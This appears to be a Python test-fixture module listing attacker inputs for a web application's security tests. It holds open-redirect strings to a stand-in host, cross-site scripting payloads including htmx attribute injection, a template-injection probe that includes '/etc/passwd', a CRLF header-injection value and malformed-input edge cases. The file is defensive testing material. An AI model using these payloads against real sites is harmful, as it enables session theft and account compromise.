"""What attackers type."""

from __future__ import annotations

REDIRECTS = (
    "//jahat.example",
    "///jahat.example",
    "////jahat.example/tim",
    "https://jahat.example/",
    "http:jahat.example",
    "/\\jahat.example",
    "\\\\jahat.example",
    "/\tjahat.example",
    "/%09/jahat.example",
    "/\n/jahat.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "/tim/../..//jahat.example",
    "/modul@jahat.example",
    "/.jahat.example",
    " /tim",
    "/keluar",
    "?next=//jahat.example",
)

_HANDLERS = (
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle",
    "onanimationstart", "onbeforeinput", "oncopy",
)  # fmt: skip
_HX = (
    'hx-get="/keluar"', 'hx-post="/keluar"', 'hx-on="click:xss()"', 'hx-on::load="xss()"',
    'hx-vals="js:{a:xss()}"', 'hx-trigger="load"', 'data-hx-post="/keluar"',
    'data-hx-trigger="load"', 'hx-swap-oob="true"', 'hx-ext="xss"', 'hx-boost="true"',
    'hx-headers="{}"', 'hx-include="*"', 'hx-confirm="xss"',
)  # fmt: skip
_TAGS = (
    "<script>xss()</script>",
    "<ScRiPt src=//jahat.example></sCrIpT>",
    "</textarea><script>xss()</script>",
    "</title><script>xss()</script>",
    "</option></select><img src=x onerror=xss()>",
    "--><img src=x onerror=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x></svg>",
    "<math><mtext><img src=x onerror=xss()></mtext></math>",
    "<iframe srcdoc='<script>xss()</script>'></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=javascript:xss()>",
    "<form action=//jahat.example><button>x</button></form>",
    "<input name=role value=admin>",
    "<base href=//jahat.example>",
    "<link rel=stylesheet href=//jahat.example>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0>",
    "<a href=javascript:xss()>x</a>",
    "<a href='java\tscript:xss()'>x</a>",
    "<b>tebal</b>",
    "<template><script>xss()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<!--><script>xss()</script>-->",
    "[x](javascript:xss())",
    '![x](x "onerror=\'xss()")',
    "{{ 7*7 }} {% include '/etc/passwd' %}",
    "${7*7} #{7*7} %(name)s %s",
    '" autofocus onfocus=xss() x="',
    "' autofocus onfocus=xss() x='",
    '"><img src=x onerror=xss()>',
    "'><img src=x onerror=xss()>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()",
    "\u2028<script>xss()</script>",
    "<img src=x onerror=\u0061lert(1)>",
)
MARKUP = (
    *_TAGS,
    *(f'<div {name}="xss()">x</div>' for name in _HANDLERS),
    *(f"<div {attribute}>x</div>" for attribute in _HX),
)

BIG = 2**63
# Values that must be refused or kept as text, never break anything. Bytes are sent as they are.
VALUES: dict[str, str | bytes] = {
    "NUL": "a\x00b",
    "lone surrogate": b"\xed\xa0\x80",
    "no UTF-8": b"\xff\xfe",
    "100,000 letters": "a" * 100_000,
    "Arabic digits": "٣",
    "full-width digits": "１２",
    "2^63": str(BIG),
    "forty digits": "9" * 40,
    "minus": "-1",
    "not a number": "NaN",
    "no such day": "2026-02-30",
    "year 10000": "10000-01-01",
    "right to left": "\u202e\u200b\u2066x",
    "CR LF": "a\r\nSet-Cookie: x=1",
}
IDS = ("9223372036854775808", "9999999999999999", "2147483648", "٣", "-1", "0", "01", "1e3")
